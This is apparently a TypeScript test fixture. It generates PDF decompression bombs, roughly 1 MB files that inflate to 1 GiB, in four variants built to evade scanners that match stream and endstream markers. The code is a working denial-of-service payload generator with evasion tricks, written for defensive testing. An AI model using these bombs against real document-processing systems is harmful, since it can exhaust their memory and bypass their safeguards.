import { createDeflateRaw } from 'node:zlib'

/**
 * PDF decompression bombs as a security review sent them: about 1 MB on the wire, a page content
 * stream that decodes to `decodedBytes` (1 GiB by default), each hiding it from a scanner that looks
 * for `stream\r?\n ... endstream` in its own way. pdf.js reads every one of them.
 */
export type BombVariant = 'space-after-stream' | 'lone-cr-after-stream' | 'hex-then-flate' | 'endstream-in-stored-block'

export const BOMB_VARIANTS: BombVariant[] = ['space-after-stream', 'lone-cr-after-stream', 'hex-then-flate', 'endstream-in-stored-block']

export const GiB = 1024 * 1024 * 1024

/** Raw deflate of `size` spaces, compressed chunk by chunk so the test never holds the decoded bytes. */
async function deflatedSpaces(size: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 })
  const parts: Buffer[] = []
  deflate.on('data', (part: Buffer) => parts.push(part))
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve)
    deflate.on('error', reject)
  })
  const chunk = Buffer.alloc(1024 * 1024, 0x20)
  for (let written = 0; written < size; written += chunk.length) {
    const piece = size - written < chunk.length ? chunk.subarray(0, size - written) : chunk
    if (!deflate.write(piece)) await new Promise((resolve) => deflate.once('drain', resolve))
  }
  deflate.end()
  await done
  return Buffer.concat(parts)
}

/** Adler-32 of `prefix` followed by `count` bytes of `fill`, in closed form for the repeated part. */
function adler32(prefix: Uint8Array, fill: number, count: number): number {
  const MOD = 65521
  let a = 1
  let b = 0
  for (const byte of prefix) {
    a = (a + byte) % MOD
    b = (b + a) % MOD
  }
  // After n more bytes of value f: a_n = a + n f, b_n = b + n a + f n (n + 1) / 2.
  const n = BigInt(count)
  const f = BigInt(fill)
  const aN = (BigInt(a) + n * f) % 65521n
  const bN = (BigInt(b) + n * BigInt(a) + (f * n * (n + 1n)) / 2n) % 65521n
  return Number((bN << 16n) | aN)
}

const zlibHeader = Buffer.from([0x78, 0xda])
const be32 = (value: number) => {
  const b = Buffer.alloc(4)
  b.writeUInt32BE(value >>> 0)
  return b
}

/** A one-page PDF whose content stream is `streamHead + data + "\nendstream"` with `dict` as its dictionary. */
function onePagePdf(dict: string, streamHead: string, data: Buffer): Uint8Array {
  const chunks: Buffer[] = []
  const offsets: number[] = []
  let length = 0
  const push = (part: string | Buffer) => {
    const b = typeof part === 'string' ? Buffer.from(part, 'latin1') : part
    chunks.push(b)
    length += b.length
  }
  const object = (n: number, body: (string | Buffer)[]) => {
    offsets[n] = length
    push(`${n} 0 obj\n`)
    body.forEach(push)
    push('\nendobj\n')
  }
  push('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
  object(1, ['<< /Type /Catalog /Pages 2 0 R >>'])
  object(2, ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>'])
  object(3, ['<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << >> /Contents 4 0 R >>'])
  object(4, [`<< ${dict} /Length ${data.length} >>\n${streamHead}`, data, '\nendstream'])
  const xref = length
  push(`xref\n0 5\n0000000000 65535 f \n`)
  for (let n = 1; n <= 4; n++) push(`${String(offsets[n]).padStart(10, '0')} 00000 n \n`)
  push(`trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`)
  return new Uint8Array(Buffer.concat(chunks))
}

/** One bomb of the given variant; the bulk is compressed once per call (about a second per GiB). */
export async function pdfBomb(variant: BombVariant, decodedBytes = GiB): Promise<Uint8Array> {
  if (variant === 'endstream-in-stored-block') {
    // A stored (uncompressed) deflate block holding the bytes "endstream", then the bulk: a scanner
    // that ends the stream at the first "endstream" inflates nine bytes; pdf.js goes by /Length.
    const marker = Buffer.from('endstream', 'latin1')
    const stored = Buffer.concat([Buffer.from([0x00, marker.length, 0x00, ~marker.length & 0xff, 0xff]), marker])
    const bulk = await deflatedSpaces(decodedBytes)
    const data = Buffer.concat([zlibHeader, stored, bulk, be32(adler32(marker, 0x20, decodedBytes))])
    return onePagePdf('/Filter /FlateDecode', 'stream\n', data)
  }
  const zlib = Buffer.concat([zlibHeader, await deflatedSpaces(decodedBytes), be32(adler32(new Uint8Array(0), 0x20, decodedBytes))])
  switch (variant) {
    case 'space-after-stream':
      return onePagePdf('/Filter /FlateDecode', 'stream \n', zlib)
    case 'lone-cr-after-stream':
      return onePagePdf('/Filter /FlateDecode', 'stream\r', zlib)
    case 'hex-then-flate':
      return onePagePdf('/Filter [/ASCIIHexDecode /FlateDecode]', 'stream\n', Buffer.from(`${zlib.toString('hex')}>`, 'latin1'))
  }
}
